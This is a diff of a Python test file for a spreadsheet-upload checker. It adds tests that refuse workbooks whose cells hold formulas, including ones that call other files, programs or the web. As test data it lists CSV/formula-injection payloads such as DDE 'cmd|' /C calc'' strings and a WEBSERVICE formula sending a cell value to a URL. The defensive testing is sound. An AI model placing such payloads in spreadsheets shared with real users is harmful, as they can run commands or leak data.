@@ -2,7 +2,9 @@
 
 import csv
 import io
+import re
 import struct
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
@@ -211,17 +213,122 @@ def test_every_way_of_writing_a_phone(tmp_path, way):
     assert found.values.get("phone") == "19900000100", found.wrongs
 
 
-def test_formulas_count_by_what_they_show_and_are_never_run(tmp_path):
-    path = tmp_path / "名册.xlsx"
+def counted(folder: Path, *cells_: tuple[str, str, Any], array: str = "") -> Path:
+    """A workbook with a head, three people and a sum below them; formulas in these cells."""
+    path = folder / "名册.xlsx"
     with xlsxwriter.Workbook(path) as made:
-        page = made.add_worksheet()
-        page.write_row(0, 0, HEADINGS)
-        page.write_formula(1, 0, '=A9&"志强"', None, "李志强")
-        page.write_row(1, 1, LI[1:])
-        page.write_string(2, 0, "=cmd|' /C calc'!A0")
-        page.write_row(2, 1, LI[1:])
-    first, second = entries(path)
-    assert first.values["name"] == "李志强" and "姓名里有“=”" in second.wrongs[0].words
+        made.add_worksheet("说明").write_formula("A1", "=COUNTA(名册!B:B)", None, 3)
+        page = made.add_worksheet("名册")
+        for at, row in enumerate([["名册"], ["备注", *HEADINGS], *[["甲", *LI]] * 3, ["合计"]]):
+            page.write_row(at, 0, row)
+        for place, formula, shown in cells_:
+            page.write_formula(place, formula, None, shown)
+        if array:
+            page.write_array_formula(array, "=B3:B4", None, "李志强")
+    return path
+
+
+READ = {1: "姓 名", 2: "身份证号"}
+
+
+@pytest.mark.parametrize(
+    ("made", "words"),
+    [
+        ([("C4", '="51990019880808"&"1234"', LI[1])], "第 4 行“身份证号”是公式"),
+        ([("C5", "=MID(A1,1,2)", "x"), ("B5", "=A1", "李")], "第 5 行“姓 名”是公式"),
+        ([("A3", "=A1", 1), ("B6", "=COUNTA(B3:B5)", 3), ("D3", "=1", 1)], ""),
+    ],
+)
+def test_what_a_formula_shows_is_not_read_and_elsewhere_it_does_no_harm(tmp_path, made, words):
+    sheet = opened(counted(tmp_path, *made))
+    if not words:
+        assert len(list(sheet.typed(READ))) == 3
+        return
+    with pytest.raises(FileRefused, match=f"{words}.*选择性粘贴.*再上传"):
+        list(sheet.typed(READ))
+
+
+def test_what_one_formula_fills_are_formulas_too(tmp_path):
+    with pytest.raises(FileRefused, match="第 5 行“姓 名”是公式"):
+        list(opened(counted(tmp_path, ("A3", "=1", 1), array="B5:B9")).typed(READ))
+
+
+def test_a_shared_formula_stands_in_each_of_its_cells_and_a_cell_may_not_say_where_it_is(tmp_path):
+    path = counted(tmp_path, ("C3", "=A1", "x"), ("C5", "=A1", "x"))
+    rewritten(path, lambda text: re.sub(r'(<c r="C3"[^>]*>)<f>A1</f>', r"\1", text))
+    rewritten(path, lambda text: text.replace("<f>A1</f>", '<f t="shared" si="0"/>'))
+    with pytest.raises(FileRefused, match="第 5 行“身份证号”"):
+        list(opened(path).typed(READ))
+    rewritten(path, lambda text: re.sub(r'(<c|<row) r="[A-Z]*\d+"', r"\1", text).replace("<f ", "<x:f "))
+    rewritten(path, lambda text: text.replace("<worksheet ", '<worksheet xmlns:x="x" '))
+    with pytest.raises(FileRefused, match="第 5 行“身份证号”"):
+        list(opened(path).typed(READ))
+
+
+def rewritten(path: Path, change: Any) -> None:
+    """The workbook with another text for its list."""
+    with zipfile.ZipFile(path) as file:
+        parts = {name: file.read(name) for name in file.namelist()}
+    with zipfile.ZipFile(path, "w") as file:
+        for name, data in parts.items():
+            file.writestr(name, change(data.decode()) if name.endswith("sheet2.xml") else data)
+
+
+REACHING = [
+    "='[1]Sheet 1'!A1", "=[1]Sheet1!A1", "=SUM('C:\\x\\[b.xlsx]S'!A1:A3)", "=cmd|'/C calc'!A0", "=DDE|a!b+1",
+    '=_xlfn.WEBSERVICE("http://x.cn/"&A1)', '=webservice ("x")', '=RTD("a",,"b")',
+]  # fmt: skip
+HARMLESS = ["=COUNTA(A2:A9)", "=Sheet2!A1", "='甲 乙'!A1&\"|!\"", "=表1[[#This Row],[姓名]]", '="[x]y!"&A1', "=A1|1"]
+
+
+@pytest.mark.parametrize("formula", [*REACHING, *HARMLESS])
+def test_what_asks_another_file_a_program_or_the_web_is_refused_wherever_it_stands(tmp_path, formula):
+    path = counted(tmp_path, ("H9", formula, 0))
+    if formula in HARMLESS:
+        assert len(lines(path)) == 3
+        return
+    with pytest.raises(FileRefused, match="连到别的文件、程序或网址"):
+        opened(path)
+
+
+TYPED = ["-", "--", "—", "+86 199 0000 0100", "-5", "@", "+1.5", "", "=", "- 无"]
+COUNTED = ["=1", "= 1+1", '="519900"', "=张三", "@SUM(1)", "+A1", "-2+3+cmd|' /C calc'!A0", "+SUM(1)", "\t=1"]
+
+
+@pytest.mark.parametrize("cell", [*TYPED, *COUNTED])
+def test_text_that_a_spreadsheet_would_count_with(tmp_path, cell):
+    assert sheets.is_formula(cell) is (cell in COUNTED)
+    path = text(tmp_path, [["备注", *HEADINGS], ["=1+1", *LI], ["", LI[0], cell, ""]])
+    if cell not in COUNTED:
+        assert len(list(opened(path).typed(READ))) == 2
+        return
+    with pytest.raises(FileRefused, match=r"是公式|公式，不能上传"):
+        list(opened(path).typed(READ))
+
+
+def test_text_that_asks_a_program_is_refused_in_any_column(tmp_path):
+    with pytest.raises(FileRefused, match="第 2 行有连到别的文件、程序或网址的公式"):
+        lines(text(tmp_path, [["备注", *HEADINGS], ["=cmd|' /C calc, 1'!A0", *LI]]))
+
+
+def test_text_that_begins_like_a_formula_and_goes_on_for_ever_holds_nobody_up():
+    for sign in ("+" + "." * 100_000, "-" + "(" * 100_000, "=" + "|" * 100_000, "=" + "]" * 100_000, " " * 100_000):
+        assert sheets.reaches_out(sign) or not sheets.is_formula(sign) or sign[0] == "="
+
+
+def test_formulas_of_an_old_workbook(tmp_path):
+    path = tmp_path / "名册.xls"
+    rows = [HEADINGS, LI, ["王芳", "519900199001011234", ""], ["合计", "", ""]]
+    path.write_bytes(old_workbook(rows, sums=[(3, 1), (1, 2)]))
+    assert len(list(opened(path).typed({0: "姓名", 1: "身份证号"}))) == 2
+    path.write_bytes(old_workbook(rows, sums=[(3, 1), (2, 0)]))
+    with pytest.raises(FileRefused, match="第 3 行“姓名”是公式"):
+        list(opened(path).typed({0: "姓名"}))
+    path.write_bytes(old_workbook(rows, link=b"\x01\x00\x08\x00\x00cmd\x03calc"))
+    with pytest.raises(FileRefused, match="连到别的文件、程序或网址"):
+        opened(path)
+    path.write_bytes(old_workbook(rows, link=b"\x01\x00\x01\x04"))
+    assert len(lines(path)) == 2, "a workbook may name itself"
 
 
 def test_an_old_workbook(tmp_path):
@@ -230,8 +337,8 @@ def test_an_old_workbook(tmp_path):
     assert lines(path) == [(2, LI), (3, ["王芳", "519900199001011234", ""])]
 
 
-def old_workbook(rows: list[list[str]]) -> bytes:
-    """A workbook of 1997: records in a stream in a small file system."""
+def old_workbook(rows: list[list[str]], sums: list[tuple[int, int]] = [], link: bytes = b"") -> bytes:  # noqa: B006
+    """A workbook of 1997: records in a stream in a small file system; formulas in some cells, a link to elsewhere."""
 
     def record(kind: int, body: bytes) -> bytes:
         return struct.pack("<HH", kind, len(body)) + body
@@ -242,11 +349,12 @@ def old_workbook(rows: list[list[str]]) -> bytes:
     begin, end = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0x07CC, 0, 6)), record(0x000A, b"")
     page = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0x07CC, 0, 6))
     page += b"".join(label(at, place, value) for at, row in enumerate(rows) for place, value in enumerate(row))
+    page += b"".join(record(0x0006, struct.pack("<HHHdHIH", *place, 0, 1.0, 0, 0, 0)) for place in sums)
     page += record(0x00EC, bytes(4_096)) + end
-    name = b"Sheet1"
-    at = len(begin) + 4 + 8 + len(name) + len(end)
+    name, links = b"Sheet1", record(0x01AE, link) if link else b""
+    at = len(begin) + 4 + 8 + len(name) + len(links) + len(end)
     sheet = record(0x0085, struct.pack("<IBBBB", at, 0, 0, len(name), 0) + name)
-    return _compound(begin + sheet + end + page)
+    return _compound(begin + sheet + links + end + page)
 
 
 def _compound(stream: bytes) -> bytes:
